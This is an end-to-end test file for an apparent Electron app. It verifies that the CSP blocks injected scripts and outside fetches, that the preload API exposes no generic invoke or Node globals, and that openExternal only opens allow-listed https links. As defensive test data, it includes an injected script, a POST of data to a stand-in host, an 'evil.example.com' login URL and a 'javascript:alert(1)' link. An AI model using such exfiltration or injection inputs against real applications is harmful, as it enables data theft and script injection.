import { buildApi, CHANNELS } from '../../src-preload/contract';
import { expect, test } from './fixtures';
import type { BrowserGlobals } from './support/browser';
import { expectAppState } from './support/flows';

/** The shape the preload would expose: the contract's domains with their verbs, plus `on`. */
function expectedApiShape(): Record<string, string[] | 'function'> {
  const api = buildApi(async () => null, () => () => undefined) as unknown as Record<string, unknown>;
  return Object.fromEntries(
    Object.entries(api).map(([key, value]) => [key, typeof value === 'function' ? 'function' : Object.keys(value as object).sort()]),
  );
}

test.beforeEach(async ({ app }) => {
  await expectAppState(app.page, 'first-run');
});

test('the Content-Security-Policy refuses injected inline scripts and outside origins', async ({ app }) => {
  const page = app.page;
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("default-src 'none'");
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("connect-src 'self'");

  const inline = await page.evaluate(async () => {
    const { document } = globalThis as unknown as BrowserGlobals;
    const violation = new Promise<string>((done) =>
      document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true }),
    );
    const script = document.createElement('script');
    script.textContent = 'window.__injectedRan = true;';
    document.body.append(script);
    const directive = await violation;
    return { directive, ran: (globalThis as unknown as BrowserGlobals).__injectedRan === true };
  });
  expect(inline.ran, 'the injected script ran').toBe(false);
  expect(inline.directive).toMatch(/^script-src/);

  const outside = await page.evaluate(async () => {
    const { document, fetch } = globalThis as unknown as BrowserGlobals;
    const violation = new Promise<string>((done) =>
      document.addEventListener('securitypolicyviolation', (event) => done(`${event.effectiveDirective} ${event.blockedURI}`), {
        once: true,
      }),
    );
    let failure: string | null = null;
    try {
      await fetch('https://example.com/collect', { method: 'POST', body: 'data' });
    } catch (error) {
      failure = String(error);
    }
    return { failure, violation: await violation };
  });
  expect(outside.failure, 'the outside fetch succeeded').not.toBeNull();
  expect(outside.violation).toMatch(/^connect-src https:\/\/example\.com/);
});

test('window.api exposes only the contract: named functions per domain, no generic invoke, no Node', async ({ app }) => {
  const page = app.page;
  const shape = await page.evaluate(() =>
    Object.fromEntries(
      Object.entries((globalThis as unknown as BrowserGlobals).api as unknown as Record<string, unknown>).map(([key, value]) => [
        key,
        typeof value === 'function' ? 'function' : Object.keys(value as object).sort(),
      ]),
    ),
  );
  expect(shape).toEqual(expectedApiShape());
  const domains = new Set(CHANNELS.map((channel) => channel.split(':')[0]));
  expect(Object.keys(shape).sort()).toEqual([...domains, 'on'].sort());
  expect(shape).not.toHaveProperty('invoke');

  const globals = await page.evaluate(() => {
    const w = globalThis as unknown as BrowserGlobals;
    return ['require', 'process', 'ipcRenderer', 'electron', 'module'].filter((name) => w[name] !== undefined);
  });
  expect(globals, 'Node or Electron globals in the page').toEqual([]);

  // Unknown events are refused rather than opening a channel to anything.
  const unknownEvent = await page.evaluate(() => {
    try {
      ((globalThis as unknown as BrowserGlobals).api.on as (event: string, listener: () => void) => () => void)('ipc:anything', () => undefined);
      return 'accepted';
    } catch {
      return 'refused';
    }
  });
  expect(unknownEvent).toBe('refused');
});

test('shell:openExternal opens only allow-listed https links', async ({ app }) => {
  const page = app.page;
  const tryOpen = (url: string) => page.evaluate((target) => (globalThis as unknown as BrowserGlobals).api.shell.openExternal({ url: target }), url);

  for (const url of ['https://evil.example.com/login', 'http://www.facebook.com/', 'javascript:alert(1)', 'https://user@www.facebook.com/']) {
    const result = await tryOpen(url);
    expect(result.ok, url).toBe(false);
    if (!result.ok) expect(result.error.code === 'FORBIDDEN' || result.error.code === 'INVALID_ARGUMENT', url).toBe(true);
  }
  const refused = await tryOpen('https://evil.example.com/login');
  expect(refused).toEqual({ ok: false, error: { code: 'FORBIDDEN', message: expect.any(String) } });

  const allowed = 'https://www.facebook.com/business/help';
  expect(await tryOpen(allowed)).toEqual({ ok: true, data: null });
  expect((await app.testLog()).openedExternal).toEqual([allowed]);
});
